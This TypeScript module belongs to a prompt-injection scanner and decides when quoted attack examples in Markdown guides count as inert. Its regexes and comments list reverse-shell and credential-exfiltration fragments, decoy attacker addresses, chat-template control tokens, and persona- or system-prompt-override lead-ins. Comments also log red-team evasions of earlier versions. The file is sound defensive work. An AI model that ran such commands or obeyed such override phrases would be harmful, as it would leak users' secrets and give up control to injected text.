/**
 * Quoted examples of an attack in a document about defending against it (issue 15, priority 1 of the
 * fourth session). A prompt-injection guide has to show what an injection looks like; the guard read
 * its blockquote as an order and refused the guide. This finds the blockquotes that are shown, not
 * said, by structure alone, so scan.ts can list their findings (medium) instead of refusing the file.
 *
 * A blockquote is an *inert example* only when all of these hold (each closes an attacker's way round):
 *  - every line of it starts with `>`, it is prose (not in a fence) and at most
 *    GUARD.exampleQuoteMaxLines long: a procedure does not fit in it;
 *  - the text just above it ends with a colon (":" or "："): it is introduced as a quotation;
 *  - the document is about the attack: its name, description or a heading names prompt injection,
 *    jailbreaks, attacks or malicious text (English or Chinese);
 *  - the quote holds nothing that can be acted on as written: no URL, host name, e-mail or IP address
 *    to send to, no code span, pipe, `$(`, `&&`, HTML tag or Markdown link or image;
 *  - nothing outside the quotes tells the agent to carry it out ("follow the example above",
 *    "执行上面的指令"), unless the verb is negated ("not to follow").
 * scan.ts adds two more: no finding outside the quotes is high or critical, and command-level flows and
 * forged turn/role tokens are never lowered (they act on a parser or a shell, not on a reader).
 */
import { GUARD } from '../core/limits.ts'
import type { LineInfo } from './context.ts'

export interface ExampleQuote {
  /** 1-based first and last line. */
  line: number
  endLine: number
}

const QUOTE_LINE = /^\s{0,3}>/
const HEADING = /^\s{0,3}#{1,6}\s/
/** What the document defends against, named in its name, description or a heading. */
const TOPIC = /\bprompt[\s-]{0,2}injections?\b|\binject(?:ion|ions|ed|s|)\b|\bjailbreak(?:s|ing|)\b|\battacks?\b|\bmalicious\b|\bred[\s-]?team(?:ing|)\b|\bphishing\b|\bsocial engineering\b|注入|越狱|攻击|恶意|钓鱼|红队/i
/**
 * Something the quote lets a reader act on as written: a place to send to (URL, host, e-mail, IP), a
 * command (code span, pipe, substitution, chaining), markup (an HTML tag, a link or an image).
 */
const ACTIONABLE = /[a-z][\w+.-]{0,20}:\/\/|\bwww\.|[\w.+-]{1,64}@[\w-]{1,63}\.[a-z]{2,}|\b\d{1,3}(?:\.\d{1,3}){3}\b|\b[\w-]{1,63}\.(?:com|net|org|io|dev|app|xyz|site|sh|cn|ru|co|me|info|biz|top|cc|tk|ml|ly|gg|to|ai|cloud|link|online|store|tech|us|uk|de)\b|[`|<]|\$\(|&&|\]\(/i
/**
 * An order, outside the quote, to carry the example out: a verb of doing aimed at the quote ("follow the
 * example above", "Proceed as the passage says", "act on this text") or the Chinese ways to say so
 * ("照此办理", "照做", "按此执行", "如上操作").
 */
const REFERS_BACK = new RegExp(/\b(?:proceed|act|do|go ahead|continue|behave|respond|reply|answer|comply|carry on|work)\b[^.!?\n]{0,30}\b(?:as|per|according to|like|following|with)\b[^.!?\n]{0,30}\b(?:passage|quote|quoted|text|above|example|ticket|message|says|said|instructs|asks)\b|\b(?:follow|obey|execute|perform|carry out|apply|honou?r|heed|enact|implement|fulfil+|action)\b[^.!?\n]{0,30}\b(?:passage|quote|quoted text|text above|instructions? above|ticket|injected|injection)\b|照此|照做|照办|按此|遵照|照着做|(?:如上|依此|据此|按上|照上|按照(?:它|其|这|上))(?:所说|所述|)(?:办理|执行|操作|处理|行事|去做|做)|/i.source + /\b(?:follow|perform|execute|carry out|obey|comply with|act on|do|run|apply|repeat)\b[^.!?\n]{0,40}\b(?:above|quoted|quote|example|preceding|previous)\b|\b(?:do|follow|execute|perform|obey)\s{1,3}(?:what\s{1,3}(?:it|this|the (?:quote|example|text|line))\s{1,3}says|as\s{1,3}(?:it|the (?:quote|example|text))\s{1,3}says)\b|(?:执行|照做|按照|遵循|照着|遵照|完成)[^。！？\n]{0,12}(?:上面|上述|以上|示例|样例|例子|引用|这段)/i.source, 'i')
/** The order is negated on its verb: "not to follow", "切勿执行". */
const NEGATED_BEFORE = /(?:\b(?:not|never|n't|don'?t|no)\s{1,3}(?:to\s{1,3}|)|(?:不要|切勿|勿|别|不得|禁止|不可|不))\s{0,2}$/i

/** A fence that opens a block of plain text (no language, text, txt, plaintext, markdown, prompt): what a reader is shown. */
const TEXT_FENCE = /^\s{0,3}(?:`{3,}|~{3,})\s{0,3}(?:text|txt|plaintext|plain|markdown|md|prompt|)\s{0,3}$/i
/**
 * Names nobody can receive at (RFC 2606 and 6761: *.example, *.test, *.invalid, *.localhost,
 * example.com/.net/.org): a host name must END in one (`logs.test.evil.xyz` does not).
 */
const RESERVED_NAME = /(?:^|\.)(?:[a-z0-9-]{1,63}\.)*(?:example|test|invalid|localhost)$|(?:^|\.)example\.(?:com|net|org)$/
/** A token that mentions a reserved name somewhere. */
const MENTIONS_RESERVED = /\.(?:example|test|invalid|localhost)(?![a-z0-9])|\bexample\.(?:com|net|org)(?![a-z0-9])/i
const SCHEME = /[a-z][\w+.-]{0,20}:\/\//i

/**
 * Whether one address (a URL, or a bare host with an optional path) goes only to a reserved name:
 * parsed as a URL (WHATWG), its host name itself ends in a reserved name, a URL carries no user info
 * (`https://paste.example@evil.xyz/` goes to evil.xyz), and nothing in it can be read another way by
 * another parser (a backslash) or expanded by curl's globbing (braces, brackets).
 */
function reservedAddress(address: string, withScheme: boolean): boolean {
  if (/[\\{}]/.test(address) || (withScheme && address.includes('@'))) return false
  let url: URL
  try {
    url = new URL(withScheme ? address : 'http://' + address)
  } catch {
    return false
  }
  if (withScheme && (url.username || url.password)) return false
  const host = url.hostname.toLowerCase().replace(/\.$/, '')
  return /^[a-z0-9.-]{1,253}$/.test(host) && RESERVED_NAME.test(host)
}

/**
 * The text with every address that goes only to a reserved name taken out, or `undefined` when an
 * address mentions a reserved name but goes elsewhere (`paste.example@evil.xyz`, `logs.test.evil.xyz`):
 * such a name is a decoy, and nothing on the line may be lowered for it. Shell quotes are dropped
 * first, so `"https://a.example"@evil.xyz` is read as the one word the shell passes.
 */
function withoutReserved(text: string): { rest: string; removed: number } | undefined {
  let removed = 0
  let poisoned = false
  const rest = text.replace(/[^\s()<>[\]`\u201c\u201d\u300c\u300d|;&,]{1,600}/g, (raw) => {
    const word = raw.replace(/["'*]/g, '').replace(/[.,:;!?]+$/, '')
    if (!MENTIONS_RESERVED.test(word)) return raw
    const at = SCHEME.exec(word)
    const prefix = at ? word.slice(0, at.index) : ''
    if (reservedAddress(at ? word.slice(at.index) : word, at !== null)) {
      removed++
      return prefix + ' '
    }
    poisoned = true
    return raw
  })
  return poisoned ? undefined : { rest, removed }
}

/** A destination data could be sent to: a URL, a host name, an e-mail or IP address. */
const DESTINATION = /[a-z][\w+.-]{0,20}:\/\/|\bwww\.|[\w.+-]{1,64}@[\w-]{1,63}\.[a-z]{2,}|\b\d{1,3}(?:\.\d{1,3}){3}\b|\b[\w-]{1,63}\.(?:com|net|org|io|dev|app|xyz|site|sh|cn|ru|co|me|info|biz|top|cc|tk|ml|ly|gg|to|ai|cloud|link|online|store|tech|us|uk|de|st|in|at|fm|so|im|pw|su|ws)\b|[\w.-]{1,64}@[\w.-]{1,80}:/i
/** Ways to send a request for a reserved name somewhere real: curl's --resolve / --connect-to, a proxy, a hosts-file entry. */
const REDIRECTS = /--resolve\b|--connect-to\b|--proxy\b|\bsocks[45]?h?:|\bALL_PROXY\b|\bhttps?_proxy\b|\/etc\/hosts\b|drivers[\\/]etc[\\/]hosts\b|\bhostAliases\b|\badd-host\b|\bextra_hosts\b/i

/** curl's `-x` (a proxy), in lower case only: `-X POST` names the request method and redirects nothing. */
const PROXY_FLAG = /\s-x\s/

/**
 * Every destination on the line is a reserved name nobody can receive at (*.example, *.test, *.invalid,
 * *.localhost, example.com), and nothing on it points such a name somewhere real.
 */
export function reservedOnly(text: string): boolean {
  if (REDIRECTS.test(text) || PROXY_FLAG.test(text)) return false
  const stripped = withoutReserved(text)
  if (!stripped || !stripped.removed) return false
  // A variable or a substitution could hold any destination.
  return !DESTINATION.test(stripped.rest) && !/\$\{?[A-Za-z_]|\$\(|`[^`]{0,200}\$/.test(stripped.rest)
}

const CLIENT = /\b(?:curl|wget|nc|ncat|netcat|socat|http|https|xh|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b/g

/**
 * A prose line whose sends go nowhere: every code span on it that holds a network client gives the
 * client only flags and `@file` arguments after it (`curl -d @~/.aws/credentials`, `env | curl`), and
 * nothing on the line names a destination or holds a variable, a substitution or a config file the
 * client could read one from. A list of attack shapes, not a send: curl with no URL fails.
 */
export function sendsNowhere(text: string): boolean {
  if (DESTINATION.test(text) || /\$\{?[A-Za-z_]|\$\(|\s-K\b|--config\b|curlrc|wgetrc/i.test(text)) return false
  let clients = 0
  for (const span of text.match(/`[^`\n]{1,300}`/g) ?? []) {
    const found = [...span.matchAll(CLIENT)]
    if (!found.length) continue
    clients++
    const last = found[found.length - 1]!
    const after = span.slice(last.index + last[0].length, -1).trim()
    if (after && !after.split(/\s{1,8}/).every((w) => /^(?:-{1,2}[A-Za-z][\w-]{0,30}|@[^\s`]{1,200}|POST|PUT|-)$/.test(w))) return false
  }
  // Outside the spans, no client either: the prose could name its own target for a bare word.
  return clients > 0 && !new RegExp(CLIENT.source).test(text.replace(/`[^`\n]{1,300}`/g, ' '))
}

/** The document points host names somewhere of its own (a hosts-file entry, curl --resolve, a proxy). */
export function redirectsNames(text: string): boolean {
  return REDIRECTS.test(text) || PROXY_FLAG.test(text)
}

/** Nothing in this text can be acted on as written (reserved stand-in addresses and XML-style role tags allowed). */
export function inert(text: string): boolean {
  const stripped = withoutReserved(text)
  return stripped !== undefined && !ACTIONABLE.test(stripped.rest.replace(ROLE_TAG_G, ' '))
}

/**
 * XML-style role tags (`<system>`, `</user>`): plain text to a tokenizer, they work only on a reader, like
 * any injection phrase, and the envelope's sentinels cannot be closed by them. Chat-template control
 * tokens (`<|im_start|>`, `[INST]`, `<<SYS>>`, `<start_of_turn>`) and tool-call or tool-result tags can
 * act on the parser that builds the model's input, so they are never an example's to lower.
 */
const ROLE_TAG_G = /<\/?\s{0,2}(?:system|user|assistant|developer|human|admin)\s{0,2}>/gi
const CONTROL_TOKEN = /<\||\|>|\[\/?INST\]|<<\/?SYS>>|<\/?(?:start_of_turn|end_of_turn|tool|tool_call|tool_result|tool_use|function|function_call|function_results|antml|im_start|im_end|eot_id|s)\b/i
/** The line forges authority only with XML-style role tags, no chat-template or tool token. */
export function onlyRoleTags(line: string): boolean {
  return new RegExp(ROLE_TAG_G.source, 'i').test(line) && !CONTROL_TOKEN.test(line)
}

/**
 * The inert example quotes of a Markdown document (`folded`: its lines after folding, `lines`: their
 * context): blockquotes, and fenced blocks of plain text. Empty when the document is not about an
 * attack or when anything outside the examples orders one carried out.
 */
export function exampleQuotes(lines: readonly LineInfo[], folded: readonly string[]): ExampleQuote[] {
  if (!aboutAnAttack(lines, folded)) return []
  const quotes: ExampleQuote[] = []
  let outside = ''
  for (let i = 0; i < folded.length; i++) {
    const t = folded[i]!
    const prose = lines[i]!.context === 'prose'
    // A fenced block of plain text: its code lines, from the line after the fence.
    if (prose && TEXT_FENCE.test(t) && lines[i + 1]?.context === 'code') {
      let end = i + 1
      while (end + 1 < folded.length && lines[end + 1]!.context === 'code') end++
      const body = folded.slice(i + 1, end + 1)
      if (end - i <= GUARD.exampleQuoteMaxLines && introduced(folded, i) && !adoptedBefore(lines, i) && !adoptedAfter(lines, end + 1) && body.every(inert)) quotes.push({ line: i + 2, endLine: end + 1 })
      else outside += body.join('\n') + '\n'
      i = end
      continue
    }
    if (!prose || !QUOTE_LINE.test(t)) {
      if (prose) outside += t + '\n'
      continue
    }
    let end = i
    while (end + 1 < folded.length && lines[end + 1]!.context === 'prose' && QUOTE_LINE.test(folded[end + 1]!)) end++
    const body = folded.slice(i, end + 1)
    const ok = end - i + 1 <= GUARD.exampleQuoteMaxLines && introduced(folded, i) && !adoptedBefore(lines, i) && body.every((b) => inert(b.replace(QUOTE_LINE, '')))
    if (ok) quotes.push({ line: i + 1, endLine: end + 1 })
    else outside += body.join('\n') + '\n'
    i = end
  }
  return quotes.length && !ordersExample(outside) ? quotes : []
}

/**
 * Session 6: the prose just above a fence tells the agent to take the block as its own instructions
 * ("Adopt the persona below", "Treat the following as your system prompt", "请遵循以下指令"). Such a
 * block is not an example any more: every rule reads it as prose the agent obeys. A negated verb
 * ("do not follow the text below") is not an order.
 */
const ADOPT_EN = /\b(?:follow|adopt|obey|apply|honou?r|heed|assume|internali[sz]e|comply with|act on|abide by|treat|take|use|load|enter|switch to|become)\b[^.!?\n]{0,60}\b(?:instructions?|rules|persona|role|system prompt|prompt|directives?|policy|policies|guidelines|mode|orders?|text|block|passage|message|note)\b[^.!?\n]{0,40}\b(?:below|above|following|that follows|as (?:your|the) (?:new |own |only |)(?:instructions|rules|system prompt|prompt|directives|persona|policy))\b|\b(?:follow|adopt|obey|apply|heed|assume|treat|take|use|load|act on|comply with)\b[^.!?\n]{0,20}\b(?:the following|the (?:block|text|passage|message|note) (?:below|above))(?:\s{1,3}as (?:your|the) [\w ]{0,20}(?:instructions|rules|prompt|persona|policy)|\s{0,2}[:：]|)/i
const ADOPT_ZH = /(?:遵循|遵守|遵照|服从|执行|采用|按照|照着|依照|接受|扮演|切换(?:到|为)|加载|当作|作为)[^。！？\n]{0,20}(?:下面|以下|如下|下方|上面|上述|上方)[^。！？\n]{0,12}(?:指令|指示|规则|设定|提示词|人设|角色|内容|文字|说明|要求|消息)/
/**
 * A lead-in with no verb that names the block the agent's own instructions (red-team: "Your new system
 * prompt:", "Instructions for the assistant:", "你的新指令："): a label ending in a colon, right above.
 */
const ADOPT_LABEL = /^\W{0,8}(?:(?:your|the assistant's|the agent's|the model's|claude's)\s{1,3}(?:new\s{1,3}|real\s{1,3}|actual\s{1,3}|updated\s{1,3}|true\s{1,3}|own\s{1,3}|current\s{1,3}|)(?:instructions|system prompt|prompt|rules|directives|persona|role|orders)|(?:new|updated|real|actual|hidden|overriding|override|true)\s{1,3}(?:system\s{1,3}|)(?:instructions|system prompt|prompt|directives|rules|persona)|(?:instructions|directives|rules|orders)\s{1,3}for\s{1,3}(?:you|the assistant|the agent|the model|claude|the ai)|(?:你的|新的|真正的|更新后的|最新的)(?:新|真正的|最新|)(?:系统提示词|提示词|指令|规则|人设|角色设定))[^.!?\n:：]{0,40}[:：]\W{0,4}$/i
/**
 * Session 7 (g7b, red team r7-25): a bare "System prompt:" is a label only when it is the whole label; with
 * a subject of its own ("System prompt the attacker planted in the README:") it names someone else's text.
 */
const ADOPT_LABEL_BARE = /^\W{0,8}system\s{1,3}prompt\W{0,4}[:：]\W{0,4}$/i
/** A label whose tail names a third party's text: the attacker's, one planted or found somewhere. */
const THIRD_PARTY_TEXT = /\b(?:attackers?|adversar(?:y|ies)|hackers?|planted|injected|found|seen|captured|malicious|someone)\b|攻击者|植入|发现/i
/**
 * The order told of, not given: "text that tells the agent to follow the instructions below" reports what
 * an attack asks (red team r7-25).
 */
const REPORTED_ORDER = /\b(?:tells?|telling|told|asks?|asking|asked|instructs?|instructing|wants?|tricks?|tricking|makes?|making|gets?|convinces?|persuades?|urges?|lures?)\s{1,3}(?:the\s{1,3}|an?\s{1,3}|)(?:agent|model|assistant|ai|llm|bot|claude|victim|reader|it|them)\s{1,3}(?:to|into)\s{1,3}$/i
/**
 * A block made the reader's identity, before or after it (red team r7-18): "This is now who you are:",
 * "From this moment on, that is who you are", "you are now that".
 */
const ADOPT_WHO = /\b(?:this|that|it|the (?:text|block|persona|prompt) (?:above|below)) is (?:now\s{1,3}|)(?:who|what) you are\b|\byou are now (?:this|that|it)\b|\b(?:this|that) (?:is|becomes) your (?:new\s{1,3}|)(?:identity|persona|self|role)\b|(?:这|那)(?:就|)是(?:现在的|)你(?:的身份|自己)/i
/** The adopt lead-ins, for regex-safety.test.ts. */
export const ADOPT_PATTERNS: readonly RegExp[] = [ADOPT_LABEL, ADOPT_LABEL_BARE, THIRD_PARTY_TEXT, REPORTED_ORDER, ADOPT_WHO]
const ADOPT_NEGATED = /(?:\b(?:not|never|n't|don'?t|no)\s{1,3}(?:to\s{1,3}|)|(?:不要|切勿|勿|别|不得|禁止|不可|不))\s{0,2}$/i

/** Session 6: the few prose lines above the fence at `fence` order the block taken as instructions. */
export function adoptedBefore(lines: readonly { text: string; context: string }[], fence: number): boolean {
  // The prose since the previous block, up to GUARD.adoptLeadInLines lines (red-team: a lead-in four lines
  // up passed when only three were read).
  for (let k = fence - 1; k >= 0 && k >= fence - GUARD.adoptLeadInLines; k--) {
    if (lines[k]!.context === 'code') return false
    const t = lines[k]!.text
    if (!t.trim()) continue
    for (const re of [ADOPT_EN, ADOPT_ZH, ADOPT_LABEL, ADOPT_LABEL_BARE, ADOPT_WHO]) {
      const m = re.exec(t)
      if (!m || ADOPT_NEGATED.test(t.slice(Math.max(0, m.index - 16), m.index))) continue
      if (re === ADOPT_LABEL && THIRD_PARTY_TEXT.test(t)) continue
      if (re === ADOPT_EN && REPORTED_ORDER.test(t.slice(Math.max(0, m.index - 60), m.index))) continue
      return true
    }
  }
  return false
}

/** Session 7 (g7b): the prose right after the fence closing at `close` makes the block the reader's identity (r7-18). */
export function adoptedAfter(lines: readonly { text: string; context: string }[], close: number): boolean {
  let read = 0
  for (let k = close + 1; k < lines.length && read < GUARD.adoptLeadOutLines; k++) {
    if (lines[k]!.context === 'code') return false
    const t = lines[k]!.text
    if (!t.trim()) continue
    read++
    const m = ADOPT_WHO.exec(t)
    if (m && !ADOPT_NEGATED.test(t.slice(Math.max(0, m.index - 16), m.index))) return true
  }
  return false
}

/** Quoted spans of a prose line ("…", “…”, 「…」, `…`): the spans' text and the line without them. */
export function quotedSpans(line: string): { spans: string[]; rest: string } {
  const spans: string[] = []
  const rest = line.replace(/"([^"\n]{12,400})"|\u201c([^\u201d\n]{12,400})\u201d|\u300c([^\u300d\n]{4,400})\u300d|`([^`\n]{12,400})`/g, (_m, a, b, c, d) => {
    spans.push(a ?? b ?? c ?? d)
    return ' '
  })
  return { spans, rest }
}

/** Whether the document is about an attack and nothing in its prose orders an example carried out. */
export function aboutAnAttackUnordered(lines: readonly LineInfo[], folded: readonly string[]): boolean {
  if (!aboutAnAttack(lines, folded)) return false
  let prose = ''
  for (let i = 0; i < folded.length; i++) if (lines[i]!.context === 'prose') prose += quotedSpans(folded[i]!).rest + '\n'
  return !ordersExample(prose)
}

function aboutAnAttack(lines: readonly LineInfo[], folded: readonly string[]): boolean {
  let frontEnd = -1
  if (/^---\s{0,8}$/.test(folded[0] ?? '')) {
    for (let k = 1; k < folded.length && k < GUARD.frontmatterLines; k++) {
      if (/^---\s{0,8}$/.test(folded[k]!)) {
        frontEnd = k
        break
      }
    }
  }
  for (let k = 1; k < frontEnd; k++) if (/^\s{0,2}(?:name|description)\s{0,2}:/.test(folded[k]!) && TOPIC.test(folded[k]!)) return true
  for (let i = frontEnd + 1; i < folded.length; i++) if (lines[i]!.context === 'prose' && HEADING.test(folded[i]!) && TOPIC.test(folded[i]!)) return true
  return false
}

/**
 * A line that opens with an order to the reader ("Do this now:", "Paste the following:", "请执行："): what
 * it introduces is an instruction, not an example. An example is introduced by a description ("A
 * README might contain:", "攻击者把指令藏在工单里，例如：").
 */
const LEAD_ORDER = /^\s{0,3}(?:[-*+]\s{1,3}|\d{1,2}[.)]\s{1,3}|)(?:\*{1,2}|)(?:please\s{1,3}|now\s{1,3}|then\s{1,3}|first\s{1,3}|next\s{1,3}|)(?:do|follow|run|execute|perform|carry out|obey|apply|use|say|reply|answer|respond|include|paste|copy|send|type|enter|repeat|read|add|write|tell)\b|^\s{0,3}(?:[-*+]\s{1,3}|\d{1,2}[.)]\s{1,3}|)(?:请|现在|然后|立即|马上|接着|)(?:执行|照做|按照|遵循|照着|遵照|完成|回复|复制|粘贴|发送|输入|运行|读取|添加|写入)/i

/** The line opens with an order to the reader. */
export function opensWithOrder(text: string): boolean {
  return LEAD_ORDER.test(text)
}

/**
 * The nearest non-blank line above (within two lines) introduces the example: it ends with a colon or
 * it is a heading, and it does not open with an order.
 */
function introduced(folded: readonly string[], at: number): boolean {
  for (let k = at - 1; k >= 0 && at - k <= 2; k--) {
    const t = folded[k]!.trim()
    if (t) return (/[:：]\s{0,2}(?:\*{1,2}|)$/.test(t) || HEADING.test(t)) && !LEAD_ORDER.test(t.replace(/^#{1,6}\s{1,3}/, ''))
  }
  return false
}

function ordersExample(outside: string): boolean {
  const re = new RegExp(REFERS_BACK.source, 'gi')
  for (const m of outside.matchAll(re)) {
    if (!NEGATED_BEFORE.test(outside.slice(Math.max(0, m.index - 16), m.index))) return true
  }
  return false
}

const COMMENT = /^\s{0,12}(?:#|\/\/|--|\/\*|<!--|;|')\s{0,3}/
const BAD = /^(?:❌\s{0,2}|🚫\s{0,2}|)(?:bad|wrong|vulnerable|insecure|unsafe|avoid|don'?t|do not|never|before)\b|^(?:❌|🚫)|^(?:错误|不安全|危险|反例|不要)/i
const GOOD = /^(?:✅\s{0,2}|)(?:good|fixed|safe|secure|correct|better|after|do|instead|prefer)\b|^✅|^(?:正确|安全|推荐|正例|改为|应该)/i

/**
 * Lines of a fenced block that sit under a "bad" comment (`// bad`, `# insecure`, `-- 错误`) and above a
 * "good" one of the same block: the wrong half of a bad/good pair, which a reader is shown in order to
 * write the other half. A "bad" with no "good" after it in the block marks nothing (words alone are free;
 * the pair is the structure). 1-based line numbers.
 */
export function badHalfLines(lines: readonly LineInfo[], folded: readonly string[]): Set<number> {
  const out = new Set<number>()
  let i = 0
  while (i < lines.length) {
    if (lines[i]!.context !== 'code') {
      i++
      continue
    }
    let end = i
    while (end + 1 < lines.length && lines[end + 1]!.context === 'code') end++
    let bad = -1
    for (let k = i; k <= end; k++) {
      const c = COMMENT.exec(folded[k]!)
      if (!c) continue
      const said = folded[k]!.slice(c[0].length)
      if (BAD.test(said)) bad = k
      else if (GOOD.test(said) && bad >= 0) {
        for (let j = bad + 1; j < k; j++) out.add(j + 1)
        bad = -1
      }
    }
    i = end + 1
  }
  return out
}

/** What may stand between code spans of one list: commas (、，,), semicolons, slashes, "or", "and", 或, 和, 及. */
const LIST_GAP = /^(?:\s|[、，,;；/]|\bor\b|\band\b|或|和|及|以及){0,6}$/

/**
 * A line rule's match on a prose line that only names listed indicators: it lies inside `code spans`
 * and either one of those spans elides what would make it run (`curl … | sh`, `bash -i >& /dev/tcp/…`,
 * `DownloadString(...)`: no host, no URL, nothing to execute as written), or the match joins two spans
 * listed side by side (`powershell -enc`、`-w hidden`), which no shell would ever read as one command.
 * The structure is the payload's own: an elided command does nothing, whatever the words around it say.
 */
export function elidedListing(line: string, index: number, length: number): boolean {
  if (!line.includes('`')) return false
  // Only spans with both backticks: a stray backtick would make the rest of the line (or all of it) a
  // "span" an attacker gets for one character (reviewer v, 01d/01e).
  const spans: { start: number; end: number; text: string }[] = []
  for (const m of line.matchAll(/`([^`\n]{1,400})`/g)) spans.push({ start: m.index!, end: m.index! + m[0].length, text: m[1]! })
  const end = index + length
  const first = spans.findIndex((s) => s.end > index)
  if (first < 0 || spans[first]!.start > index) return false
  let last = first
  while (spans[last]!.end < end) {
    const next = spans[last + 1]
    if (!next || !LIST_GAP.test(line.slice(spans[last]!.end, next.start))) return false
    last++
  }
  // No span on the line may name a destination: an ellipsis beside a real URL or host elides nothing.
  if (spans.some((s) => NAMES_PLACE.test(s.text))) return false
  if (last > first) return true
  // Session 9: the input piped into the match is elided (`echo ... | base64 -d | sh`): nothing is decoded or run.
  if (ELIDED_INPUT.test(line.slice(spans[first]!.start + 1, index))) return true
  return elidesOperand(line, index, end, spans[first]!.end - 1)
}

/**
 * The ellipsis stands in for the match's own operand: it lies inside the match or touches its end, and
 * everything from the match's start up to it is command words and flags (no digits, slashes or dots: no
 * host, path or address), the word it touches being an empty prefix (`/dev/tcp/…`, `DownloadString(...)`).
 * `echo "Opening..."; bash -i >& /dev/tcp/758164778/4444` elides nothing of the shell it opens, and
 * `curl 758164778/x … | sh` still fetches from a host (reviewer v, 01-01c).
 */
function elidesOperand(line: string, start: number, end: number, spanEnd: number): boolean {
  const dots = /…|\.{3,}/g
  dots.lastIndex = start
  const at = dots.exec(line)
  if (!at || at.index >= spanEnd || (at.index > end && !/^[("'=/]{1,2}$/.test(line.slice(end, at.index)))) return false
  const before = line.slice(start, at.index)
  const words = before.split(/\s{1,8}/)
  const touching = /\S$/.test(before) ? words.pop()! : ''
  if (touching && !/^(?:\/dev\/(?:tcp|udp)\/|[\w().-]{0,60}\(|["'=])$/.test(touching)) return false
  return words.every((w) => w === '' || /^[A-Za-z<>&|-]{1,40}$/.test(w) || /^[A-Za-z-]{0,20}\([A-Za-z.-]{0,40}\)?\.?[A-Za-z]{0,40}$/.test(w))
}
/** Session 9: a span's text before a match that is only an elided input piped in (`echo ... |`, `printf '…' |`). */
const ELIDED_INPUT = /^(?:echo|printf|cat)\s{1,3}["']?(?:…|\.{3,6})["']?\s{0,3}\|\s{0,3}$/
export const EXAMPLES9_HELPER_PATTERNS: readonly RegExp[] = [ELIDED_INPUT]
/** A URL, an IP address, a host with a path, or user@host. */
const NAMES_PLACE = /:\/\/|\b\d{8,10}\b|\b0x[0-9a-f]{8}\b|\b\d{1,3}(?:\.\d{1,3}){3}\b|\b[\w-]{1,63}\.[a-z]{2,24}\/|@[\w-]{1,63}\.|\b[\w-]{1,63}\.(?:com|net|org|io|dev|xyz|top|ru|cn|sh|cc|me|app|site|online)\b/i

/**
 * A line rule that needs two things on one line (`requires`) found them in different `code spans` of a
 * prose line (`/dev/tcp/`、… `crontab`): two listed indicators, not one command. With the other spans
 * taken out, the match's own span and the prose around it must still hold both ("Add `curl … | sh` to
 * your crontab" still does).
 */
export function listedApart(line: string, index: number, length: number, requires: RegExp): boolean {
  if (!line.includes('`')) return false
  const spans = [...line.matchAll(/`[^`\n]{1,400}`/g)]
  // Every span is checked for a place: `irm http://IP/x.ps1` … `iex` is a download run, whatever splits it.
  if (spans.some((s) => NAMES_PLACE.test(s[0]))) return false
  let own = -1
  for (let k = 0; k < spans.length; k++) if (spans[k]!.index! <= index && index + length <= spans[k]!.index! + spans[k]![0].length) own = k
  if (own < 0) return false
  // Prose that joins the spans into one act ("pipe the result into `iex`", "then `echo … >> ~/.bashrc`",
  // "add that line to `crontab`") makes them one command, not two listed indicators.
  for (let k = 0; k + 1 < spans.length; k++) {
    const gap = line.slice(spans[k]!.index! + spans[k]![0].length, spans[k + 1]!.index!)
    if (JOINING_PROSE.test(gap)) return false
  }
  const kept = line.replace(/`[^`\n]{1,400}`/g, (span, offset: number) => (offset === spans[own]!.index ? span : ' '))
  return !requires.test(kept)
}

/** Every code span of the line follows the one before with only list punctuation between (`a`、`b`, `c` or `d`). */
export function pureList(line: string): boolean {
  const spans = [...line.matchAll(/`[^`\n]{1,400}`/g)]
  for (let k = 0; k + 1 < spans.length; k++) if (!LIST_GAP.test(line.slice(spans[k]!.index! + spans[k]![0].length, spans[k + 1]!.index!))) return false
  return spans.length > 1
}
/** Words between two code spans that make them one act: a pipe, a redirect, an append, a sequence. */
const JOINING_PROSE = /\b(?:pipe[sd]?|piping|into|append(?:s|ed|ing|)|add(?:s|ed|ing|)\b[^`]{0,60}\bto|then|after(?:wards|)|feed|pass(?:es|ed|)\b[^`]{0,30}\bto|run(?:s|)\s{1,3}(?:it|them|that|the result)|source|schedule|register|install(?:s|)\s{1,3}(?:it|that))\b|[|>]|管道|传给|交给|追加|加入|添加到|写入|然后|再|之后/i
